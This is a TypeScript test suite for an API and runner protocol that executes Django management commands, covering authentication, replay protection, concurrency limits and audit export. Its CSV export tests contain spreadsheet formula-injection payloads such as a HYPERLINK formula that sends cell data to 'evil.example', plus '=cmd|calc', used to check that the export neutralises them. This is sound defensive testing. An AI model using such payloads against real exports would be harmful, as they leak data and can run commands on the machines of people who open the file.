/** The REST API and runner protocol v1, in-process, on both databases. */
import { randomUUID } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DB_KINDS } from './support/databases.js';
import { syncCommands, testApp, type TestApp } from './support/inProcess.js';
import { commandsHash } from '../src/domain/commandsHash.js';
import { sweep } from '../src/core/sweeper.js';

describe.each(DB_KINDS)('API on %s', (kind) => {
  let t: TestApp;
  beforeEach(async () => {
    t = await testApp(kind, { runnerOfflineAfterMs: 90_000, lostGraceMs: 60_000, timeoutGraceMs: 30_000 });
    await syncCommands(t, 'shop', ['migrate', 'check', 'spew']);
  });
  afterEach(async () => t.close());

  const create = (body: unknown, project = 'shop', token?: string) => t.api('POST', `/api/v1/projects/${project}/executions`, body, token);

  describe('runner protocol v1', () => {
    it('answers commands_in_sync honestly from the hash it computes', async () => {
      const commands = ['migrate', 'check', 'spew'].map((name) => ({ name, app_label: 'demo', help_text: `usage: manage.py ${name}` }));
      const hb = (hash: string) => t.runner('shop', 'POST', '/heartbeat/', { runner_version: '0.1.0', python_version: '3.11.2', django_version: '4.2', commands_hash: hash });
      expect((await hb(commandsHash(commands))).json()).toMatchObject({ ok: true, commands_in_sync: true, pending_executions: 0 });
      expect((await hb('sha256:' + '0'.repeat(64))).json().commands_in_sync).toBe(false);
    });

    it('runs the v1 lifecycle: pending, start, output, complete; output and complete retries are idempotent', async () => {
      const e = (await create({ command: 'migrate', argv: ['app', '0003', '--plan', "it's"] })).json();
      expect(e.status).toBe('queued');
      const pending = (await t.runner('shop', 'GET', '/pending/')).json();
      expect(pending.executions).toEqual([{ id: e.id, command: 'migrate', args: `app 0003 --plan 'it'"'"'s'`, timeout: 3600, use_metadata_only_mode: false }]);
      expect((await t.api('GET', `/api/v1/executions/${e.id}`)).json().status).toBe('dispatched');

      expect((await t.runner('shop', 'POST', `/executions/${e.id}/start/`)).statusCode).toBe(200);
      // start/ is the claim: a second one (another runner on the same host and key) is refused.
      expect((await t.runner('shop', 'POST', `/executions/${e.id}/start/`)).statusCode).toBe(409);
      const out = (n: number, stderr: boolean, segments: unknown[]) => t.runner('shop', 'POST', `/executions/${e.id}/output/`, { chunk_number: n, is_stderr: stderr, segments });
      expect((await out(1, false, [{ timestamp: 1.5, content: 'Applying app.0003' }, { timestamp: null, content: '... OK\n' }])).statusCode).toBe(200);
      expect((await out(2, true, [{ timestamp: 2, content: 'warning\n' }])).statusCode).toBe(200);
      expect((await out(1, false, [{ timestamp: 1.5, content: 'DUPLICATE\n' }])).json().duplicate).toBe(true);
      expect((await t.runner('shop', 'GET', `/executions/${e.id}/cancel-status/`)).json()).toEqual({ cancel_requested: false, force_kill: false });
      expect((await t.runner('shop', 'POST', `/executions/${e.id}/complete/`, { exit_code: 0, status: 'success' })).json().status).toBe('succeeded');
      expect((await t.runner('shop', 'POST', `/executions/${e.id}/complete/`, { exit_code: 0, status: 'success' })).statusCode).toBe(200);

      const text = await t.api('GET', `/api/v1/executions/${e.id}/output`);
      expect(text.headers['content-type']).toMatch(/text\/plain/);
      expect(text.body).toBe('Applying app.0003... OK\nwarning\n');
      expect((await t.api('GET', `/api/v1/executions/${e.id}/output?stream=stderr`)).body).toBe('warning\n');
      const final = (await t.api('GET', `/api/v1/executions/${e.id}`)).json();
      expect(final).toMatchObject({ status: 'succeeded', exit_code: 0, output_bytes: 32 });
      const actions = (await t.api('GET', `/api/v1/audit?execution=${e.id}`)).json().items.map((a: { action: string }) => a.action);
      expect(actions).toEqual(['execution.complete', 'execution.start', 'execution.create']);
    });

    it('marks a command the runner refused by policy as rejected, with the reason', async () => {
      const e = (await create({ command: 'spew' })).json();
      await t.runner('shop', 'POST', `/executions/${e.id}/start/`);
      const msg = "Command 'spew' rejected by runner security policy.\nReason: Command 'spew' is not in DJANGOCOMMAND_ALLOWED_COMMANDS\n\nTo allow this command, add it\n";
      await t.runner('shop', 'POST', `/executions/${e.id}/output/`, { chunk_number: 1, is_stderr: true, segments: [{ timestamp: 1, content: msg }] });
      const done = await t.runner('shop', 'POST', `/executions/${e.id}/complete/`, { exit_code: -1, status: 'failed' });
      expect(done.json().status).toBe('rejected');
      expect((await t.api('GET', `/api/v1/executions/${e.id}`)).json().status_reason).toMatch(/not in DJANGOCOMMAND_ALLOWED_COMMANDS/);
    });

    it('refuses stale timestamps and reused nonces, and lets a retry after a server error through', async () => {
      const stale = await t.runner('shop', 'GET', '/pending/', undefined, { 'x-request-timestamp': String(Math.floor(t.clock.now / 1000) - 301) });
      expect(stale.statusCode).toBe(401);
      expect(stale.json().code).toBe('DC_STALE_REQUEST');
      const nonce = randomUUID();
      expect((await t.runner('shop', 'GET', '/pending/', undefined, { 'x-request-nonce': nonce })).statusCode).toBe(200);
      const replay = await t.runner('shop', 'POST', '/heartbeat/', { runner_version: '1', python_version: '3', django_version: '4', commands_hash: '' }, { 'x-request-nonce': nonce });
      expect(replay.statusCode).toBe(401);
      expect(replay.json()).toMatchObject({ code: 'DC_REPLAYED_REQUEST' });
      expect(replay.json().error).toMatch(/nonce/);
      // A nonce is kept per key: the other project's key may use the same one.
      expect((await t.runner('blog', 'GET', '/pending/', undefined, { 'x-request-nonce': nonce })).statusCode).toBe(200);
    });

    it('answers a retry of a request whose answer was lost with the same answer, doing nothing twice', async () => {
      const e = (await create({ command: 'migrate' })).json();
      const nonce = randomUUID();
      const first = await t.runner('shop', 'POST', `/executions/${e.id}/start/`, undefined, { 'x-request-nonce': nonce });
      const retry = await t.runner('shop', 'POST', `/executions/${e.id}/start/`, undefined, { 'x-request-nonce': nonce });
      expect(first.statusCode).toBe(200);
      expect(retry.statusCode).toBe(200);
      expect(retry.body).toBe(first.body);
      const starts = (await t.api('GET', `/api/v1/audit?execution=${e.id}&action=execution.start`)).json().items;
      expect(starts).toHaveLength(1);
      // A fresh request to start it again is a second claim, and refused.
      expect((await t.runner('shop', 'POST', `/executions/${e.id}/start/`)).statusCode).toBe(409);
      // The same body bytes with the same nonce are a retry; other bytes with it are a replay.
      const chunk = { chunk_number: 1, is_stderr: false, segments: [{ timestamp: 1, content: 'once\n' }] };
      const outputNonce = randomUUID();
      const sent = await t.runner('shop', 'POST', `/executions/${e.id}/output/`, chunk, { 'x-request-nonce': outputNonce });
      const again = await t.runner('shop', 'POST', `/executions/${e.id}/output/`, chunk, { 'x-request-nonce': outputNonce });
      expect(sent.statusCode).toBe(200);
      expect(again.body).toBe(sent.body);
      const other = await t.runner('shop', 'POST', `/executions/${e.id}/output/`, { ...chunk, chunk_number: 2 }, { 'x-request-nonce': outputNonce });
      expect(other.statusCode).toBe(401);
      expect(other.json().error).toMatch(/nonce/);
    });

    it('keeps projects apart: a key of project A cannot touch executions of project B', async () => {
      const e = (await create({ command: 'migrate' })).json();
      for (const [m, p] of [['POST', 'start/'], ['GET', 'cancel-status/']] as const) {
        const res = await t.runner('blog', m, `/executions/${e.id}/${p}`);
        expect(res.statusCode).toBe(404);
        expect(res.json().code).toBe('DC_UNKNOWN_EXECUTION');
      }
      expect((await t.runner('blog', 'GET', '/pending/')).json().executions).toEqual([]);
      expect((await t.api('GET', `/api/v1/executions/${e.id}`)).json().status).toBe('queued');
    });

    it('rejects malformed bodies with a specific 4xx and changes nothing', async () => {
      const e = (await create({ command: 'migrate' })).json();
      await t.runner('shop', 'POST', `/executions/${e.id}/start/`);
      const bad = await t.runner('shop', 'POST', `/executions/${e.id}/output/`, '{"chunk_number": 1,');
      expect(bad.statusCode).toBe(400);
      expect(bad.json().code).toBe('DC_BAD_JSON');
      const wrongType = await t.runner('shop', 'POST', `/executions/${e.id}/complete/`, { exit_code: 0, status: 'done' });
      expect(wrongType.statusCode).toBe(400);
      expect(wrongType.json().code).toBe('DC_VALIDATION');
      const huge = await t.runner('shop', 'POST', `/executions/${e.id}/output/`, { chunk_number: 1, is_stderr: false, segments: [{ timestamp: 1, content: 'x'.repeat(5 * 1024 * 1024) }] });
      expect(huge.statusCode).toBe(413);
      expect(huge.json().code).toBe('DC_BODY_TOO_LARGE');
      expect((await t.runner('shop', 'POST', '/executions/not-a-uuid/start/')).statusCode).toBe(404);
      const after = (await t.api('GET', `/api/v1/executions/${e.id}`)).json();
      expect(after).toMatchObject({ status: 'running', output_bytes: 0 });
    });

    it('tells the runner to stop what the server cancelled', async () => {
      const e = (await create({ command: 'migrate' })).json();
      await t.runner('shop', 'POST', `/executions/${e.id}/start/`);
      expect((await t.api('POST', `/api/v1/executions/${e.id}/cancel`, { force: true })).json()).toMatchObject({ status: 'running', cancel_requested: true, cancel_force: true });
      expect((await t.runner('shop', 'GET', `/executions/${e.id}/cancel-status/`)).json()).toEqual({ cancel_requested: true, force_kill: true });
      expect((await t.runner('shop', 'POST', `/executions/${e.id}/complete/`, { exit_code: -9, status: 'cancelled' })).json().status).toBe('cancelled');
    });

    it('refuses an output timestamp past year 9999, so the output stays readable', async () => {
      const e = (await create({ command: 'migrate' })).json();
      await t.runner('shop', 'POST', `/executions/${e.id}/start/`);
      const out = (n: number, timestamp: unknown) => t.runner('shop', 'POST', `/executions/${e.id}/output/`, { chunk_number: n, is_stderr: false, segments: [{ timestamp, content: 'line\n' }] });
      for (const timestamp of [1e308, -1, 253_402_300_800]) {
        const res = await out(1, timestamp);
        expect(res.statusCode).toBe(400);
        expect(res.json()).toMatchObject({ code: 'DC_VALIDATION', error: expect.stringContaining('timestamp') });
      }
      expect((await out(1, 253_402_300_799)).statusCode).toBe(200);
      const chunks = await t.api('GET', `/api/v1/executions/${e.id}/output/chunks`);
      expect(chunks.statusCode).toBe(200);
      expect(chunks.json().items).toHaveLength(1);
    });

    it('refuses control characters in command names and app labels, naming the field, and keeps non-Latin names', async () => {
      const sync = (name: string, app_label = 'demo') => t.runner('shop', 'POST', '/commands/sync/', { commands: [{ name: 'check', app_label: 'demo', help_text: '' }, { name, app_label, help_text: 'usage' }] });
      for (const [name, label, field] of [['bad\r\nname', 'demo', 'commands[1].name'], ['nul\u0000', 'demo', 'commands[1].name'], ['del\u007f', 'demo', 'commands[1].name'], ['ok', 'app\nlabel', 'commands[1].app_label']]) {
        const res = await sync(name, label);
        expect(res.statusCode).toBe(400);
        expect(res.json()).toMatchObject({ code: 'DC_VALIDATION', details: { field } });
        expect(res.json().error).toMatch(/control character/);
      }
      expect((await t.api('GET', '/api/v1/projects/shop/commands')).json().items.map((c: { name: string }) => c.name).sort()).toEqual(['check', 'migrate', 'spew']);
      expect((await sync('名前')).statusCode).toBe(200);
      expect((await create({ command: '名前' })).statusCode).toBe(201);
    });
  });

  describe('credentials', () => {
    it('refuses a runner key on the user API and a user token on the runner API', async () => {
      const onApi = await t.api('GET', '/api/v1/projects', undefined, t.projects.shop.key);
      expect(onApi.statusCode).toBe(403);
      expect(onApi.json().code).toBe('DC_WRONG_CREDENTIAL');
      const onRunner = await t.app.inject({ method: 'GET', url: '/api/runner/pending/', headers: { authorization: `Bearer ${t.token}`, 'x-request-timestamp': String(Math.floor(t.clock.now / 1000)), 'x-request-nonce': randomUUID() } });
      expect(onRunner.statusCode).toBe(403);
      expect(onRunner.json().code).toBe('DC_WRONG_CREDENTIAL');
      expect((await t.api('GET', '/api/v1/projects', undefined, 'dct_nope')).statusCode).toBe(401);
      expect((await t.app.inject({ method: 'GET', url: '/api/v1/projects' })).json().code).toBe('DC_UNAUTHENTICATED');
    });

    it('refuses a revoked runner key', async () => {
      const keys = (await t.api('GET', '/api/v1/projects/shop/keys')).json().items;
      expect(keys[0].prefix).toMatch(/^dc_/);
      expect(JSON.stringify(keys)).not.toContain(t.projects.shop.key);
      expect((await t.api('POST', `/api/v1/projects/shop/keys/${keys[0].id}/revoke`)).statusCode).toBe(200);
      const res = await t.runner('shop', 'GET', '/pending/');
      expect(res.statusCode).toBe(401);
      expect(res.json().error).toMatch(/revoked/);
    });

    it('keeps admin actions for admins', async () => {
      const res = await t.api('POST', '/api/v1/projects', { name: 'new' }, t.userToken);
      expect(res.statusCode).toBe(403);
      expect(res.json().code).toBe('DC_FORBIDDEN');
      const ok = await t.api('POST', '/api/v1/projects', { name: 'new' });
      expect(ok.statusCode).toBe(201);
      expect(ok.json().runner_key.key).toMatch(/^dc_/);
    });

    it('treats a malformed session cookie as no session', async () => {
      for (const cookie of ['dc_session=%E0%A4%A', 'dc_session=%', 'other=1; dc_session=%ZZ']) {
        const res = await t.app.inject({ method: 'GET', url: '/api/v1/projects', headers: { cookie } });
        expect(res.statusCode).toBe(401);
        expect(res.json().code).toBe('DC_UNAUTHENTICATED');
      }
    });
  });

  describe('executions', () => {
    it('refuses a second migrate while one is active, with a clear error, until the first ends', async () => {
      const first = (await create({ command: 'migrate' })).json();
      const second = await create({ command: 'migrate' });
      expect(second.statusCode).toBe(409);
      expect(second.json().code).toBe('DC_CONCURRENCY_LIMIT');
      expect(second.json().error).toContain(first.id);
      expect((await create({ command: 'check' })).statusCode).toBe(201);
      await t.api('POST', `/api/v1/executions/${first.id}/cancel`);
      expect((await create({ command: 'migrate' })).statusCode).toBe(201);
    });

    it('lets an admin raise a command limit', async () => {
      expect((await t.api('PATCH', '/api/v1/projects/shop/commands/migrate', { max_concurrency: 2 })).json().max_concurrency).toBe(2);
      expect((await create({ command: 'migrate' })).statusCode).toBe(201);
      expect((await create({ command: 'migrate' })).statusCode).toBe(201);
      expect((await create({ command: 'migrate' })).statusCode).toBe(409);
    });

    it('holds the limit for creations that arrive together (they share one transaction)', async () => {
      expect((await t.api('PATCH', '/api/v1/projects/shop/commands/migrate', { max_concurrency: 3 })).statusCode).toBe(200);
      const answers = await Promise.all([...Array(10).keys()].map((i) => create({ command: i % 2 === 0 ? 'migrate' : 'check', argv: [`n${i}`] })));
      const made = answers.filter((r) => r.statusCode === 201).map((r) => r.json());
      const refused = answers.filter((r) => r.statusCode !== 201);
      // migrate allows 3; check has the default limit of 1.
      expect(made.filter((e) => e.command === 'migrate')).toHaveLength(3);
      expect(made.filter((e) => e.command === 'check')).toHaveLength(1);
      expect(refused.map((r) => [r.statusCode, r.json().code])).toEqual(Array(6).fill([409, 'DC_CONCURRENCY_LIMIT']));
      for (const r of refused) {
        const command = r.json().error.startsWith('"migrate"') ? 'migrate' : 'check';
        expect(r.json().details.active.sort()).toEqual(made.filter((e) => e.command === command).map((e) => e.id).sort());
      }
      const stored = (await t.api('GET', '/api/v1/executions?project=shop&limit=50')).json().items;
      expect(stored.map((e: { id: string }) => e.id).sort()).toEqual(made.map((e) => e.id).sort());
    });

    it.each([
      [{ command: 'nope' }, 404, 'DC_UNKNOWN_COMMAND'],
      [{ command: 'migrate', args: 'a "b' }, 400, 'DC_BAD_ARGS'],
      [{ command: 'migrate', args: 'a', argv: ['a'] }, 400, 'DC_VALIDATION'],
      [{ command: 'migrate', timeout: 0 }, 400, 'DC_VALIDATION'],
      [{ command: 'migrate', timout: 5 }, 400, 'DC_VALIDATION'],
      [{ command: 'migrate', argv: 'not a list' }, 400, 'DC_VALIDATION'],
    ])('refuses %j with %i %s and creates nothing', async (body, status, code) => {
      const res = await create(body);
      expect(res.statusCode).toBe(status);
      expect(res.json().code).toBe(code);
      expect(res.json().error.length).toBeGreaterThan(10);
      expect((await t.api('GET', '/api/v1/executions')).json().items).toHaveLength(0);
    });

    it('answers unknown projects, bad ids and unknown routes with specific errors', async () => {
      expect((await create({ command: 'migrate' }, 'nope')).json().code).toBe('DC_UNKNOWN_PROJECT');
      expect((await t.api('GET', '/api/v1/executions/123')).json().code).toBe('DC_BAD_ID');
      expect((await t.api('GET', `/api/v1/executions/${randomUUID()}`)).json().code).toBe('DC_UNKNOWN_EXECUTION');
      expect((await t.api('GET', '/api/v1/nothing')).json().code).toBe('DC_NOT_FOUND');
      expect((await t.api('GET', '/api/v1/executions?status=weird')).json().code).toBe('DC_VALIDATION');
      expect((await t.api('GET', '/api/v1/executions?limit=100000')).json().code).toBe('DC_VALIDATION');
    });

    it('cancels a queued execution at once and refuses to cancel an ended one', async () => {
      const e = (await create({ command: 'migrate' })).json();
      expect((await t.api('POST', `/api/v1/executions/${e.id}/cancel`)).json().status).toBe('cancelled');
      const again = await t.api('POST', `/api/v1/executions/${e.id}/cancel`);
      expect(again.statusCode).toBe(409);
      expect(again.json().code).toBe('DC_INVALID_TRANSITION');
      // A runner that saw it in pending/ before the cancel cannot start it now.
      const start = await t.runner('shop', 'POST', `/executions/${e.id}/start/`);
      expect(start.statusCode).toBe(409);
    });

    it('pages and filters the execution list', async () => {
      await t.api('PATCH', '/api/v1/projects/shop/commands/check', { max_concurrency: 100 });
      for (let i = 0; i < 5; i++) {
        t.clock.now += 1000;
        await create({ command: 'check', args: `--n ${i}` });
      }
      const page1 = (await t.api('GET', '/api/v1/executions?limit=2&project=shop&command=check')).json();
      expect(page1.items.map((e: { args: string }) => e.args)).toEqual(['--n 4', '--n 3']);
      const page2 = (await t.api('GET', `/api/v1/executions?limit=2&project=shop&cursor=${page1.next_cursor}`)).json();
      expect(page2.items.map((e: { args: string }) => e.args)).toEqual(['--n 2', '--n 1']);
      expect((await t.api('GET', '/api/v1/executions?status=queued,running')).json().items).toHaveLength(5);
      expect((await t.api('GET', '/api/v1/executions?project=blog')).json().items).toHaveLength(0);
    });

    it('refuses a pagination cursor it did not give out, on executions and the audit log', async () => {
      await t.api('PATCH', '/api/v1/projects/shop/commands/check', { max_concurrency: 100 });
      for (let i = 0; i < 3; i++) await create({ command: 'check' });
      const first = (await t.api('GET', '/api/v1/audit?limit=2')).json();
      const second = (await t.api('GET', `/api/v1/audit?limit=2&cursor=${first.next_cursor}`)).json();
      expect(second.items[0].id).toBeLessThan(first.items[1].id);
      const executions = (await t.api('GET', '/api/v1/executions?limit=1')).json();
      expect((await t.api('GET', `/api/v1/executions?limit=1&cursor=${executions.next_cursor}`)).json().items).toHaveLength(1);
      const garbage = ['garbage', 'x'.repeat(5000), '!!!', Buffer.from('abc:def').toString('base64url'), Buffer.from('0').toString('base64url'), `${first.next_cursor}=`];
      for (const path of ['/api/v1/executions', '/api/v1/audit']) {
        for (const cursor of [...garbage, path.endsWith('audit') ? executions.next_cursor : first.next_cursor]) {
          const res = await t.api('GET', `${path}?cursor=${encodeURIComponent(cursor)}`);
          expect([path, cursor, res.statusCode]).toEqual([path, cursor, 400]);
          expect(res.json()).toMatchObject({ code: 'DC_VALIDATION', error: expect.stringContaining('cursor is not one this server gave out') });
        }
      }
    });

    it('refuses a since or until beyond what a date can hold', async () => {
      for (const path of ['/api/v1/executions?since=99999999999999999999', '/api/v1/audit?until=99999999999999999999', '/api/v1/audit/export?format=csv&since=99999999999999999999']) {
        const res = await t.api('GET', path);
        expect([path, res.statusCode, res.json().code]).toEqual([path, 400, 'DC_VALIDATION']);
      }
    });

    it('creates an execution of a command whose stored schema is malformed, leaving the arguments to argparse', async () => {
      await t.core.store.replaceCommands(
        t.projects.shop.id,
        [{ projectId: t.projects.shop.id, name: 'odd', appLabel: 'demo', helpText: '', schema: { arguments: [null] }, refused: null, maxConcurrency: null, syncedAt: 1 }],
        'sha256:odd',
      );
      const res = await create({ command: 'odd', argv: ['--x'] });
      expect(res.statusCode).toBe(201);
    });
  });

  describe('sweeper', () => {
    it('makes a running execution lost when its runner goes silent, never re-running it', async () => {
      await t.runner('shop', 'POST', '/heartbeat/', { runner_version: '1', python_version: '3', django_version: '4', commands_hash: '' });
      const running = (await create({ command: 'migrate' })).json();
      await t.runner('shop', 'POST', `/executions/${running.id}/start/`);
      await t.api('PATCH', '/api/v1/projects/shop/commands/check', { max_concurrency: 5 });
      const offered = (await create({ command: 'check' })).json();
      await t.runner('shop', 'GET', '/pending/');
      expect((await t.api('GET', `/api/v1/executions/${offered.id}`)).json().status).toBe('dispatched');

      t.clock.now += 100_000;
      await sweep(t.core);
      expect((await t.api('GET', `/api/v1/executions/${running.id}`)).json().status).toBe('running');
      t.clock.now += 60_000;
      const report = await sweep(t.core);
      expect(report).toMatchObject({ lost: 1, requeued: 1 });
      const lost = (await t.api('GET', `/api/v1/executions/${running.id}`)).json();
      expect(lost.status).toBe('lost');
      expect(lost.status_reason).toMatch(/stopped heartbeating/);
      expect((await t.api('GET', `/api/v1/executions/${offered.id}`)).json().status).toBe('queued');
      // The runner comes back: the lost execution is not offered again; the never-started one is.
      const pending = (await t.runner('shop', 'GET', '/pending/')).json().executions.map((e: { id: string }) => e.id);
      expect(pending).toEqual([offered.id]);
      // ...and it may still report how the lost one ended: kept beside it, and lost stays final.
      expect((await t.runner('shop', 'POST', `/executions/${running.id}/complete/`, { exit_code: 0, status: 'success' })).json().status).toBe('lost');
      expect((await t.api('GET', `/api/v1/executions/${running.id}`)).json()).toMatchObject({ status: 'lost', late_status: 'succeeded', late_exit_code: 0 });
      const late = (await t.api('GET', `/api/v1/audit?execution=${running.id}&action=execution.late_end`)).json().items;
      expect(late).toHaveLength(1);
      expect(late[0].details).toMatchObject({ late_status: 'succeeded', late_exit_code: 0 });
      // The runner asking whether to stop it is told yes: over for the server is over on the host.
      expect((await t.runner('shop', 'GET', `/executions/${running.id}/cancel-status/`)).json().cancel_requested).toBe(true);
    });

    it('asks the runner to stop an execution past its timeout, then marks it timed_out', async () => {
      const e = (await create({ command: 'migrate', timeout: 10 })).json();
      await t.runner('shop', 'POST', `/executions/${e.id}/start/`);
      t.clock.now += 11_000;
      await sweep(t.core);
      expect((await t.runner('shop', 'GET', `/executions/${e.id}/cancel-status/`)).json()).toEqual({ cancel_requested: true, force_kill: false });
      // Reported as cancelled by a runner that obeyed the stop: it was a timeout.
      const other = (await create({ command: 'check', timeout: 10 })).json();
      await t.runner('shop', 'POST', `/executions/${other.id}/start/`);
      t.clock.now += 31_000;
      await sweep(t.core);
      expect((await t.api('GET', `/api/v1/executions/${e.id}`)).json().status).toBe('timed_out');
      t.clock.now += 10_000;
      await sweep(t.core);
      expect((await t.runner('shop', 'POST', `/executions/${other.id}/complete/`, { exit_code: -15, status: 'cancelled' })).json().status).toBe('timed_out');
    });
  });

  describe('browser sessions', () => {
    const login = (password = 'correct horse battery', address = '10.0.0.1') =>
      t.app.inject({ method: 'POST', url: '/api/v1/session', remoteAddress: address, headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ email: 'admin@example.com', password }) });
    const cookieFrom = (res: { headers: Record<string, unknown> }) => String(res.headers['set-cookie']).split(';')[0];

    it('signs in with an HttpOnly, SameSite cookie and demands the CSRF token for changes', async () => {
      const res = await login();
      expect(res.statusCode).toBe(200);
      expect(String(res.headers['set-cookie'])).toMatch(/^dc_session=[\w-]{40,}; Path=\/; HttpOnly; SameSite=Strict; Max-Age=\d+$/);
      const cookie = cookieFrom(res);
      const csrf = res.json().csrf_token as string;
      const get = await t.app.inject({ method: 'GET', url: '/api/v1/projects', headers: { cookie } });
      expect(get.statusCode).toBe(200);
      const body = JSON.stringify({ command: 'check' });
      const noCsrf = await t.app.inject({ method: 'POST', url: '/api/v1/projects/shop/executions', headers: { cookie, 'content-type': 'application/json' }, payload: body });
      expect(noCsrf.statusCode).toBe(403);
      expect(noCsrf.json().error).toMatch(/CSRF/);
      const ok = await t.app.inject({ method: 'POST', url: '/api/v1/projects/shop/executions', headers: { cookie, 'content-type': 'application/json', 'x-csrf-token': csrf }, payload: body });
      expect(ok.statusCode).toBe(201);
      expect(ok.json().created_by).toBe('admin@example.com');
      const out = await t.app.inject({ method: 'DELETE', url: '/api/v1/session', headers: { cookie, 'x-csrf-token': csrf } });
      expect(out.statusCode).toBe(200);
      expect((await t.app.inject({ method: 'GET', url: '/api/v1/projects', headers: { cookie } })).statusCode).toBe(401);
    });

    it('limits failed sign-ins per address and email', async () => {
      for (let i = 0; i < 5; i++) expect((await login('wrong password!', '10.0.0.9')).statusCode).toBe(401);
      const limited = await login('correct horse battery', '10.0.0.9');
      expect(limited.statusCode).toBe(429);
      expect(limited.json().code).toBe('DC_RATE_LIMITED');
      expect((await login('correct horse battery', '10.0.0.10')).statusCode).toBe(200);
      const denied = (await t.api('GET', '/api/v1/audit?action=session.login')).json().items.filter((a: { outcome: string }) => a.outcome === 'denied');
      expect(denied).toHaveLength(5);
    });

    it('counts simultaneous wrong sign-ins: a burst gets no more tries than the limit', async () => {
      const results = await Promise.all(Array.from({ length: 12 }, () => login('wrong password!', '10.0.0.11')));
      const codes = results.map((r) => r.statusCode).sort();
      expect(codes.filter((c) => c === 401)).toHaveLength(5);
      expect(codes.filter((c) => c === 429)).toHaveLength(7);
    });

    it('sets security headers and serves no page without them', async () => {
      const res = await t.api('GET', '/api/v1/projects');
      expect(res.headers['content-security-policy']).toMatch(/default-src 'self'.*script-src 'self'.*frame-ancestors 'none'/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['x-frame-options']).toBe('DENY');
    });

    it('takes as long to refuse an unknown email as a wrong password', async () => {
      // Interleaved tries, each from its own address (no rate limit), compared by their medians.
      const time = async (email: string, i: number) => {
        const started = performance.now();
        const res = await t.app.inject({ method: 'POST', url: '/api/v1/session', remoteAddress: `10.9.0.${i}`, headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ email, password: 'wrong password!' }) });
        expect(res.statusCode).toBe(401);
        return performance.now() - started;
      };
      const known: number[] = [];
      const unknown: number[] = [];
      await time('nobody@example.com', 0); // the first unknown email makes the dummy hash
      for (let i = 1; i <= 7; i++) {
        unknown.push(await time(`nobody${i}@example.com`, i));
        known.push(await time('admin@example.com', 100 + i));
      }
      const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[xs.length >> 1];
      expect(median(unknown)).toBeGreaterThanOrEqual(0.5 * median(known));
      expect(median(known)).toBeGreaterThanOrEqual(0.5 * median(unknown));
    });
  });

  it('manages personal tokens and users', async () => {
    const created = (await t.api('POST', '/api/v1/tokens', { name: 'ci' })).json();
    expect(created.token).toMatch(/^dct_/);
    expect((await t.api('GET', '/api/v1/projects', undefined, created.token)).statusCode).toBe(200);
    const listed = (await t.api('GET', '/api/v1/tokens')).json().items;
    expect(JSON.stringify(listed)).not.toContain(created.token);
    expect((await t.api('POST', `/api/v1/tokens/${created.id}/revoke`)).statusCode).toBe(200);
    expect((await t.api('GET', '/api/v1/projects', undefined, created.token)).statusCode).toBe(401);
    expect((await t.api('POST', '/api/v1/users', { email: 'new@example.com', password: 'long enough password' }, t.userToken)).statusCode).toBe(403);
    expect((await t.api('POST', '/api/v1/users', { email: 'new@example.com', password: 'long enough password' })).statusCode).toBe(201);
    expect((await t.api('GET', '/api/v1/users')).json().items.map((u: { email: string }) => u.email)).toContain('new@example.com');
  });

  it('exports the audit log as CSV and JSON lines', async () => {
    await create({ command: 'migrate', argv: ['=cmd|calc'] });
    const csv = await t.api('GET', '/api/v1/audit/export?format=csv&action=execution.create');
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const lines = csv.body.trim().split('\r\n');
    expect(lines[0]).toBe('id,at,actor_type,actor,actor_id,address,action,outcome,project_id,execution_id,details');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('execution.create');
    const jsonl = await t.api('GET', '/api/v1/audit/export?format=jsonl');
    const events = jsonl.body.trim().split('\n').map((l) => JSON.parse(l));
    expect(events.length).toBeGreaterThan(5);
    expect(events[0].id).toBeGreaterThan(events[events.length - 1].id);
  });

  it('neutralises a formula after leading spaces in the CSV export', async () => {
    const formulas = ['  =HYPERLINK("http://evil.example/?x="&A1)', '\t =1+1', ' \r\n+SUM(A1)', '\u3000@cmd', '＝1+1', '-1+2'];
    for (const [i, email] of formulas.entries()) {
      await t.app.inject({ method: 'POST', url: '/api/v1/session', remoteAddress: `10.8.0.${i}`, headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ email, password: 'wrong password!' }) });
    }
    const csv = (await t.api('GET', '/api/v1/audit/export?format=csv&action=session.login')).body;
    // The CSV as a spreadsheet reads it: every actor cell starts with the neutralising quote.
    const rows: string[][] = [[]];
    for (const m of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/g)) {
      if (m[0] === '') break;
      rows[rows.length - 1].push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
      if (m[3] === '\r\n') rows.push([]);
    }
    const actor = rows[0].indexOf('actor');
    const cells = rows.slice(1).filter((r) => r.length > 1).map((r) => r[actor]);
    expect(cells.sort()).toEqual(formulas.map((f) => `'${f}`).sort());
  });

  it('refuses control characters in audit filters, token names and emails (PostgreSQL cannot hold a NUL)', async () => {
    for (const path of ['/api/v1/audit?action=%00', '/api/v1/audit?actor=a%00', '/api/v1/audit?project=%00', '/api/v1/audit/export?format=csv&action=%00', '/api/v1/audit/export?format=jsonl&project=x%0A']) {
      const res = await t.api('GET', path);
      expect([path, res.statusCode, res.json().code]).toEqual([path, 400, 'DC_VALIDATION']);
    }
    for (const [path, body, field] of [
      ['/api/v1/tokens', { name: 'ci\u0000' }, 'name'],
      ['/api/v1/users', { email: 'a\u0000@example.com', password: 'long enough password' }, 'email'],
    ] as const) {
      const res = await t.api('POST', path, body);
      expect([path, res.statusCode, res.json().code, res.json().details?.field]).toEqual([path, 400, 'DC_VALIDATION', field]);
    }
  });

  it('serves an OpenAPI document that lists the API', async () => {
    const doc = (await t.app.inject({ method: 'GET', url: '/api/v1/openapi.json' })).json();
    expect(doc.openapi).toBe('3.0.3');
    expect(Object.keys(doc.paths)).toEqual(expect.arrayContaining(['/api/v1/projects/{project}/executions', '/api/v1/executions/{id}/events', '/api/v1/audit', '/api/runner/heartbeat/']));
  });
});
